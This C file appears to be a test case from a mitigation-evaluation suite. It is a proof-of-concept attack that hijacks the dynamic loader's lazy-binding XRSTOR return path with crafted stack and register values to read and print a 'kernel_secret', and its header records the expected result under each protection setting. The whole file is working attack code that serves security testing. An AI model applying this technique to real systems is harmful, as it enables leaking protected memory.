/* none: succeeds: secret; keys: succeeds: secret; full: ends "SIGSEGV" */
#define ATTACK_OPENS
#include "attack.h"

/*
 * The host's loader ends lazy binding with XRSTOR 0x40(%rsp), loads the registers that stand below that, takes its stack from rbx
 * and jumps by r11.
 */
static uint64_t words[512] __attribute__((aligned(64)));
static uint64_t after[8];
uintptr_t gate;

int main(void)
{
	register uint64_t from __asm__("r12") = at("kernel_secret");
	register void *stack __asm__("r14") = words, *next __asm__("r15") = after;
	register uint64_t to __asm__("r13") = at("ld_xrstor");
	uint64_t seen[2] = { 0 }, eax = 0x200, edx = 0;

	gate = getauxval(AT_SYSINFO);
	memcpy(words + 8, state_open, sizeof words - 64);
	__asm__ volatile("push %%rbx\n\tpush %%rbp\n\tmov %%rsp, %%rbp\n\t"
			 "lea 1f(%%rip), %%r11\n\tmov %[words], %%rsp\n\tmov %[after], %%rbx\n\tjmp *%[to]\n"
			 "1:\tmov %%rbp, %%rsp\n\tpop %%rbp\n\tpop %%rbx\n\tmov (%[from]), %%rdi\n\tmov 8(%[from]), %%rsi\n\t"
			 "mov %[getpid], %%eax\n\tlea 2f(%%rip), %%rcx\n\tjmp *gate(%%rip)\n2:"
			 : "=D"(seen[0]), "=S"(seen[1]), "+a"(eax), "+d"(edx)
			 : [words] "r"(stack), [after] "r"(next), [to] "r"(to), [from] "r"(from), [getpid] "i"(SYS_getpid)
			 : "rcx", "r8", "r9", "r10", "r11", "memory", "cc");
	say("stolen: %.16s\n", (char *)seen);
	return 0;
}
